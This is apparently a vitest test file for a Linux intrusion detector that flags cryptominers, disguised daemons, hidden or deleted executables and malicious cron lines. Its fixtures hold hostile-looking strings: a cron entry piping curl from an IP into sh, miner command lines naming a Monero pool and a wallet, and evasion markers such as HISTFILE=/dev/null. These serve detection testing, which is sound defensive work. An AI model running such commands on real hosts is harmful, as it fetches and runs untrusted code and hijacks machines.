import { describe, expect, it } from 'vitest'
import type { Fact } from '../../probes/facts.ts'
import { noLinks } from '../links.ts'
import { compileIndicators, parseIndicators, shippedPools } from '../indicators.ts'
import { setScene } from '../scene.ts'
import { aFile, aListener, aMachine, aProcess, aSchedule, aSocket, type ProcessChange } from '../fixtures/facts.ts'
import { found, judged, signalsOf, spoilt } from '../fixtures/judging.ts'
import { look } from './predicate.ts'
import { processJudging } from './process.ts'

const wallet = `48${'edfHu7V9Z84YzzMa6fUueoELZ9ZRXq'.repeat(4)}`.slice(0, 95)
const listed = parseIndicators('address 203.0.113.10 850 alert', { source: 'case' }).indicators
const indicators = compileIndicators([
  ...shippedPools(),
  ...listed,
  ...parseIndicators('ab'.repeat(32), { source: 'samples' }).indicators,
])

/** Signals and guards of pid 50 in a scene: sure ones by id, doubts with a question mark. */
function seen(subject: ReturnType<typeof aProcess>, ...more: readonly Fact[]): readonly string[] {
  const scene = setScene([aMachine, subject, ...more], [], indicators, null)
  const { signals, guards } = look(processJudging, subject, scene, noLinks)
  return [...signals, ...guards].map((one) => (one.sure ? one.datum.id : `${one.datum.id}?`))
}
const p = (exe: string | null, change: ProcessChange = {}) => aProcess(50, exe, change)
const opt = '/opt/x/x'

describe('each signal fires on what it names', () => {
  it.each<[string, readonly string[]]>([
    ['pool-connection', seen(p(opt), aSocket(50, '203.0.113.10', 3333))],
    ['pool-named', seen(p(opt, { cmdline: '/opt/x/x gulf.moneroocean.stream:10128' }))],
    ['stratum-address', seen(p(opt, { cmdline: './x -o stratum+ssl://a.example:443' }))],
    ['miner-options', seen(p(opt, { cmdline: './x --donate-level=1' }))],
    ['miner-options', seen(p(opt, { cmdline: './x --coin monero' }))],
    ['pool-and-wallet', seen(p(opt, { cmdline: `./x -o 1.2.3.4:8080 -u ${wallet} -p x` }))],
    ['wallet', seen(p(opt, { cmdline: `./x ${wallet}` }))],
    ['miner-name', seen(p('/opt/x/kdevtmpfsi'))],
    ['pool-port', seen(p(opt), aSocket(50, '198.51.100.9', 14444))],
    ['exe-known-hostile', seen(p(opt, { exeSha256: 'ab'.repeat(32) }))],
    ['exe-memfd', seen(p('/memfd:x', { exeMemfd: true, exeDeleted: true }))],
    ['exe-altered', seen(p('/usr/bin/top'), aFile('/usr/bin/top', 'procps', { checksum: 'no' }))],
    ['exe-deleted', seen(p(opt, { exeDeleted: true }))],
    ['exe-replaced', seen(p(opt, { exeDeleted: true }), aFile(opt, null))],
    ['exe-upgraded', seen(p('/usr/sbin/nginx', { exeDeleted: true }), aFile('/usr/sbin/nginx', 'nginx'))],
    ['exe-hidden-place', seen(p('/var/tmp/.cache/k'))],
    ['exe-hidden-place', seen(p('/.x9'))],
    ['exe-hidden-place', seen(p('/bin/.local/bin/top'))],
    ['exe-hidden-place', seen(p('/usr/bin/python3', { cmdline: 'python3 /dev/shm/m.py' }))],
    [
      'exe-unowned',
      seen(
        p('/bin/sysd'),
        aFile('/usr/bin/sysd', null, {
          meta:
            p('/bin/sysd').identity.exeInode === null
              ? {}
              : { identity: { dev: '2049', inode: p('/bin/sysd').identity.exeInode ?? '', sha256: null } },
        }),
      ),
    ],
    ['exe-unowned?', seen(p('/usr/bin/sysd'))],
    ['fake-kernel-thread', seen(p(opt, { cmdline: '[kworker/0:2]' }))],
    ['fake-kernel-thread', seen(p(opt, { comm: 'kswapd0' }))],
    ['daemon-name-mismatch', seen(p('/tmp/a', { cmdline: 'php-fpm: pool www', argv0: 'php-fpm: pool www' }))],
    ['daemon-name-mismatch', seen(p('/var/tmp/sshd'))],
    ['interpreter-as-daemon', seen(p('/usr/bin/perl', { cmdline: '/usr/sbin/httpd', argv0: '/usr/sbin/httpd' }))],
    ['worker-without-master', seen(p(opt, { cmdline: 'php-fpm: pool www', argv0: 'php-fpm: pool www', ppid: 1 }))],
    ['hidden-from-host-ps', seen(p(opt, { inHostPs: 'no' }), aProcess(1, '/usr/bin/a'), aProcess(2, '/usr/bin/b'))],
    ['hidden-from-readdir', seen(p(opt, { inReaddir: 'no' }))],
    ['over-mounted', seen(p(opt, { overMounted: true }))],
    ['cpu-sustained', seen(p(opt, { cpuPermille: 3000, cpuLifePermille: 2900 }))],
    ['cpu-one-core', seen(p(opt, { cpuPermille: 800, cpuLifePermille: 700 }))],
    ['thread-shape', seen(p(opt, { cpuPermille: 3900, cpuLifePermille: 3900, threads: 6, ioBytes: '2000' }))],
    ['lone-outbound', seen(p(opt), aSocket(50, '198.51.100.9', 443))],
    [
      'scanning',
      seen(
        p(opt),
        ...Array.from({ length: 25 }, (_, at) =>
          aSocket(50, `198.51.100.${at}`, 6379, { state: 'syn-sent', inode: String(at) }),
        ),
      ),
    ],
    ['server-child', seen(p('/usr/bin/dash', { ppid: 9 }), aProcess(9, '/usr/bin/redis-server'))],
    ['preload-from-odd-place', seen(p(opt, { env: ['LD_PRELOAD=/dev/shm/l.so'] }))],
    ['malware-environment', seen(p(opt, { env: ['TERM=x', 'AAZHDE=1'] }))],
    ['history-off', seen(p(opt, { env: ['HISTFILE=/dev/null'] }))],
    ['exe-locked', seen(p(opt), aFile(opt, null, { meta: { flags: 'ei' } }))],
  ])('%s', (signal, ids) => {
    expect(ids).toContain(signal)
  })

  it('needs an incident window for what changed inside it', () => {
    const facts = [p(opt), aFile(opt, null, { meta: { ctime: '1700000500.5' } })]
    const inside = judged([...facts, aSocket(50, '203.0.113.10', 3333)], {
      indicators: listed,
      window: { fromSeconds: 1_700_000_000, toSeconds: 1_700_001_000 },
    })
    expect(signalsOf(found(inside, 'process')[0])).toContain('exe-changed-in-window')
    expect(seen(...(facts as [ReturnType<typeof p>, Fact]))).not.toContain('exe-changed-in-window')
  })
})

describe('a signal keeps still where it would be wrong', () => {
  it.each<[string, readonly string[]]>([
    ['pool-connection', seen(p(opt), aSocket(50, '203.0.113.10', 3333, { state: 'time-wait' }))],
    ['pool-named', seen(p(opt, { cmdline: './x notnanopool.org' }))],
    ['pool-and-wallet', seen(p(opt, { cmdline: 'curl -o out.txt -u me:secret https://a.example' }))],
    ['pool-port', seen(p(opt), aListener(50, 3333))],
    ['pool-port', seen(p(opt), aSocket(50, '127.0.0.1', 3333))],
    ['exe-hidden-place', seen(p('/home/dev/.local/bin/tool'))],
    ['exe-hidden-place', seen(p('/usr/bin/node', { cmdline: 'node /srv/app/node_modules/.bin/vite' }))],
    ['exe-hidden-place', seen(p('/root/.vscode-server/bin/node'))],
    ['exe-deleted', seen(p('/usr/sbin/nginx', { exeDeleted: true }), aFile('/usr/sbin/nginx', 'nginx'))],
    ['fake-kernel-thread', seen(p(null, { comm: 'kworker/0:2' }))],
    ['fake-kernel-thread', seen(p('/usr/lib/systemd/systemd', { cmdline: '(sd-pam)', comm: '(sd-pam)' }))],
    [
      'daemon-name-mismatch',
      seen(p('/usr/sbin/php-fpm8.2', { cmdline: 'php-fpm: pool www', argv0: 'php-fpm: pool www' })),
    ],
    ['daemon-name-mismatch', seen(p('/opt/nginx/sbin/nginx', { argv0: 'nginx: worker process' }))],
    ['hidden-from-host-ps', seen(p(opt, { inHostPs: 'unknown' }))],
    ['hidden-from-host-ps', seen(p(opt, { inHostPs: 'no', ageSeconds: 3 }), aProcess(1, '/usr/bin/a'))],
    // hidepid: the host's ps as nobody sees next to nothing, which proves nothing
    [
      'hidden-from-host-ps',
      seen(
        p(opt, { inHostPs: 'no' }),
        aProcess(1, '/usr/bin/a', { inHostPs: 'no' }),
        aProcess(2, '/usr/bin/b', { inHostPs: 'no' }),
      ),
    ],
    ['cpu-sustained', seen(p(opt, { cpuPermille: 3000, cpuLifePermille: 100 }))],
    ['thread-shape', seen(p(opt, { cpuPermille: 3900, cpuLifePermille: 3900, threads: 6 }))],
    ['thread-shape', seen(p(opt, { cpuPermille: 3900, cpuLifePermille: 3900, threads: 80, ioBytes: '2000' }))],
    ['lone-outbound', seen(p(opt), aSocket(50, '198.51.100.9', 443), aListener(50, 80))],
    [
      'scanning',
      seen(
        p(opt, { ttyNr: 34816 }),
        ...Array.from({ length: 25 }, (_, at) =>
          aSocket(50, `198.51.100.${at}`, 22, { state: 'syn-sent', inode: String(at) }),
        ),
      ),
    ],
    ['preload-from-odd-place', seen(p(opt, { env: ['LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2'] }))],
  ])('%s', (signal, ids) => {
    expect(ids).not.toContain(signal)
  })
})

describe('guards', () => {
  const mysqld = '/usr/sbin/mariadbd'
  it.each<[string, readonly string[]]>([
    ['our-own-session', seen(p('/run/x/busybox', { ours: true }))],
    ['first-process', seen(aProcess(1, '/usr/lib/systemd/systemd'))],
    ['kernel-thread', seen(p(null))],
    ['ssh-server', seen(p('/usr/sbin/sshd'), aListener(50, 22))],
    ['package-owned', seen(p('/usr/bin/sha256sum'), aFile('/usr/bin/sha256sum', 'coreutils'))],
    ['package-owned?', seen(p('/usr/bin/sha256sum'))],
    ['known-engine', seen(p(mysqld, { euid: 101 }), aFile(mysqld, 'mariadb-server'), aListener(50, 3306))],
    ['known-engine', seen(p(mysqld, { euid: 101, cwd: '/var/lib/mysql' }), aFile(mysqld, 'mariadb-server'))],
    ['known-engine', seen(p('/usr/bin/ffmpeg'), aFile('/usr/bin/ffmpeg', 'ffmpeg'))],
    [
      'only-mentions',
      seen(p('/usr/bin/grep', { cmdline: 'grep -r stratum+tcp://x.example /etc' }), aFile('/usr/bin/grep', 'grep')),
    ],
    ['only-mentions?', seen(p('/usr/bin/grep', { cmdline: 'grep -r xmrig /etc' }))],
    [
      'only-mentions',
      seen(
        p('/usr/bin/dash', { cmdline: 'sh -c tail -F /var/log/a | grep -e stratum+tcp://x' }),
        aFile('/usr/bin/dash', 'dash'),
      ),
    ],
    [
      'container-runtime',
      seen(
        p('/memfd:runc_cloned:/proc/self/exe', { exeMemfd: true, ppid: 7 }),
        aProcess(7, '/usr/bin/containerd-shim-runc-v2'),
        aFile('/usr/bin/containerd-shim-runc-v2', 'containerd'),
      ),
    ],
    ['short-sample', seen(p(opt, { cpuPermille: null }))],
    ['other-namespace', seen(p(opt, { foreignNamespace: 'yes' }))],
  ])('%s holds', (guard, ids) => {
    expect(ids).toContain(guard)
  })

  it.each<[string, readonly string[]]>([
    // a name or a path alone clears nothing
    ['known-engine', seen(p(mysqld, { euid: 101, cwd: '/var/lib/mysql' }), aFile(mysqld, null))],
    ['known-engine', seen(p('/tmp/mariadbd', { euid: 101, cwd: '/var/lib/mysql' }))],
    [
      'known-engine',
      seen(p(mysqld, { euid: 101 }), aFile(mysqld, 'mariadb-server', { checksum: 'no' }), aListener(50, 3306)),
    ],
    ['only-mentions', seen(p('/tmp/grep', { cmdline: 'grep stratum+tcp://x' }))],
    [
      'only-mentions',
      seen(
        p('/usr/bin/dash', { cmdline: 'sh -c grep x /etc/a; /tmp/m -o stratum+tcp://x' }),
        aFile('/usr/bin/dash', 'dash'),
      ),
    ],
    ['ssh-server', seen(p('/tmp/sshd'), aListener(50, 22))],
    ['container-runtime', seen(p('/memfd:runc_cloned:x', { exeMemfd: true, ppid: 7 }), aProcess(7, '/tmp/shim'))],
    // an interpreter is its script
    [
      'package-owned',
      seen(p('/usr/bin/python3', { cmdline: 'python3 /opt/m.py' }), aFile('/usr/bin/python3', 'python3')),
    ],
    ['package-owned', seen(p('/usr/bin/perl', { cmdline: 'perl -e while(1){}' }), aFile('/usr/bin/perl', 'perl-base'))],
    // another file stands at the path now
    [
      'package-owned',
      seen(
        p('/usr/bin/top'),
        aFile('/usr/bin/top', 'procps', { meta: { identity: { dev: '2049', inode: '1', sha256: null } } }),
      ),
    ],
  ])('%s does not hold', (guard, ids) => {
    expect(ids).not.toContain(guard)
  })

  it('an interpreter with a packaged script is as its package made it', () => {
    const script = '/usr/share/unattended-upgrades/unattended-upgrade-shutdown'
    const python = p('/usr/bin/python3', { cmdline: `/usr/bin/python3 ${script} --wait-for-signal` })
    expect(seen(python, aFile('/usr/bin/python3', 'python3'), aFile(script, 'unattended-upgrades'))).toContain(
      'package-owned',
    )
  })
})

describe('what is unknown stays unknown', () => {
  const miner = p('/usr/bin/sysd', { inHostPs: 'no' })
  const others = [aProcess(2, '/usr/bin/a'), aProcess(3, '/usr/bin/b')]

  it('ownership that could not be read is not read as "not owned"', () => {
    const [finding] = found(judged([miner, ...others]), 'process')
    expect(finding).toMatchObject({ score: 85, proposed: 'unknown' })
    expect(signalsOf(finding)).toEqual(['hidden-from-host-ps', 'exe-unowned.unsure', 'package-owned.unsure'])
  })

  it('the same process is proposed once the package database denies it', () => {
    expect(found(judged([miner, ...others, aFile('/usr/bin/sysd', null)]), 'process')[0]).toMatchObject({
      score: 88,
      proposed: 'yes',
    })
  })

  it('and not proposed once the package database vouches for it', () => {
    expect(found(judged([miner, ...others, aFile('/usr/bin/sysd', 'sysd')]), 'process')).toEqual([])
  })

  it('no package manager installs into /tmp: there the doubt does not arise', () => {
    const hidden = p('/tmp/x', { inHostPs: 'no' })
    expect(found(judged([hidden, ...others]), 'process')[0]).toMatchObject({ score: 91, proposed: 'yes' })
  })

  it('unread sockets leave a suspicious process undecided, and an ordinary one in peace', () => {
    const suspicious = p('/tmp/x', { cpuPermille: 3900, cpuLifePermille: 3900 })
    const busy = aProcess(51, '/opt/tool', { cpuPermille: 3900, cpuLifePermille: 3900 })
    const result = judged([suspicious, busy], { unknowns: [spoilt(['socket'])] })
    expect(found(result, 'process').map((one) => [one.params['pid'], one.proposed])).toEqual([[50, 'unknown']])
  })
})

describe('lineage', () => {
  const miner = aProcess(60, '/var/tmp/.k/m', { cmdline: './m -o stratum+tcp://a.example:1' })
  it('marks the children of a miner and those that run the same file', () => {
    const child = aProcess(61, '/usr/local/bin/w', { ppid: 60 })
    const twin = aProcess(62, '/var/tmp/.k/m')
    const result = judged([miner, child, twin])
    const by = (pid: number) => found(result, 'process').find((one) => one.params['pid'] === pid)
    expect(signalsOf(by(61))).toEqual(['child-of-hostile'])
    expect(by(61)?.proposed).toBe('no')
    expect(signalsOf(by(62))).toContain('same-executable')
  })

  it('does not spread from what a guard protects: the sshd above a session is nobody’s accomplice', () => {
    const sshd = aProcess(70, '/usr/sbin/sshd', { env: ['AAZHDE=1'], inHostPs: 'no' })
    const session = aProcess(71, '/usr/bin/bash', { ppid: 70, cmdline: '-bash' })
    const facts = [sshd, session, aListener(70, 22), aProcess(2, '/usr/bin/a'), aProcess(3, '/usr/bin/b')]
    const result = judged(facts)
    expect(found(result, 'process').map((one) => [one.params['pid'], one.proposed])).toEqual([[70, 'no']])
  })

  it('a hostile schedule marks what it started', () => {
    const plain = aProcess(63, '/usr/local/bin/upd')
    const line = aSchedule('/etc/cron.d/upd', 1, 'curl -s http://203.0.113.9/a | sh; /usr/local/bin/upd')
    expect(signalsOf(found(judged([plain, line]), 'process')[0])).toEqual(['from-hostile-schedule'])
  })
})

describe('disguised daemons', () => {
  const fpm = '/usr/sbin/php-fpm8.2'
  const title = { cmdline: 'php-fpm: pool www', argv0: 'php-fpm: pool www' }

  it('are not workers whose master runs the same executable', () => {
    const master = aProcess(40, fpm, { cmdline: 'php-fpm: master process (/etc/php/8.2/fpm/php-fpm.conf)' })
    expect(seen(p(fpm, { ...title, ppid: 40 }), master)).not.toContain('worker-without-master')
    expect(seen(p('/usr/bin/perl', { ...title, ppid: 40 }), master)).toContain('worker-without-master')
  })

  it('are not scripts under their own name, nor applets of busybox', () => {
    const own = [
      p('/usr/bin/python3.11', { cmdline: '/usr/bin/python3 /usr/bin/fail2ban-server', argv0: '/usr/bin/python3' }),
      p('/usr/bin/dash', { cmdline: '-sh', argv0: '-sh' }),
      p('/bin/busybox', { cmdline: 'crond -f', argv0: 'crond' }),
      p(fpm, title),
    ]
    for (const one of own) expect(seen(one)).not.toContain('interpreter-as-daemon')
  })

  it('lose the protection of the interpreter’s package: what runs is the script', () => {
    const perl = aFile('/usr/bin/perl', 'perl-base')
    expect(seen(p('/usr/bin/perl', { cmdline: 'perl', argv0: 'perl' }), perl)).toContain('package-owned')
    const bot = p('/usr/bin/perl', { cmdline: '/usr/sbin/httpd', argv0: '/usr/sbin/httpd' })
    expect(seen(bot, perl)).not.toContain('package-owned')
  })
})

describe('who keeps a hostile process', () => {
  const miner = aProcess(60, '/var/tmp/.x/m', { cmdline: `./m -o stratum+tcp://a.example:443 -u ${wallet}`, ppid: 50 })
  const about = (keeper: ReturnType<typeof aProcess>) =>
    found(judged([aMachine, keeper, miner]), 'process').find(({ params }) => params['pid'] === 50)

  it('is told when no package vouches for its code', () => {
    const keeper = p('/usr/bin/dash', { cmdline: '/bin/sh /opt/.run/superv', argv0: '/bin/sh' })
    expect(about(keeper)?.reasons.map(({ signal }) => signal)).toContain('keeps-hostile')
  })

  it('is not a login shell, a scheduler or PID 1', () => {
    for (const keeper of [
      p('/usr/bin/bash', { cmdline: '-bash', argv0: '-bash' }),
      p('/usr/sbin/cron', { cmdline: '/usr/sbin/cron -f' }),
    ])
      expect(about(keeper)?.reasons.map(({ signal }) => signal) ?? []).not.toContain('keeps-hostile')
  })
})

describe('what lies in the nest of a hostile process', () => {
  const miner = aProcess(60, '/usr/lib/.udev/qwertyuiop', {
    cmdline: '/usr/lib/.udev/qwertyuiop -o stratum+tcp://gulf.moneroocean.stream:10128',
  })
  const beside = (path: string) =>
    judged([miner, p('/usr/bin/dash', { cmdline: `/bin/sh ${path}`, argv0: '/bin/sh', ppid: 1 })]).findings.find(
      ({ target }) => target.kind === 'process' && target.identity.pid === 50,
    )

  it('is his too: a loop that nothing else accuses', () => {
    expect(beside('/usr/lib/.udev/sync')?.reasons.map(({ signal }) => signal)).toContain('shares-hostile-nest')
  })

  it('is proposed when it runs the same bytes under another name, although nothing else is known of it', () => {
    const sha = { exeSha256: 'c'.repeat(64) }
    const twin = p('/usr/lib/.udev/asdfghjklm', { ppid: 1, ...sha })
    const { findings } = judged([
      { ...miner, identity: { ...miner.identity, ...sha } },
      twin,
      aFile('/usr/lib/.udev/asdfghjklm', null),
    ])
    const found = findings.find(({ target }) => target.kind === 'process' && target.identity.pid === 50)
    expect(found?.reasons.map(({ signal }) => signal)).toContain('same-executable')
    expect(found?.proposed).toBe('yes')
  })

  it('is not what lies one folder up, in another hidden folder, or in a temporary folder of everybody', () => {
    for (const path of ['/usr/lib/sync', '/usr/lib/.udev2/sync', '/tmp/sync'])
      expect(beside(path)?.reasons.map(({ signal }) => signal) ?? []).not.toContain('shares-hostile-nest')
  })
})
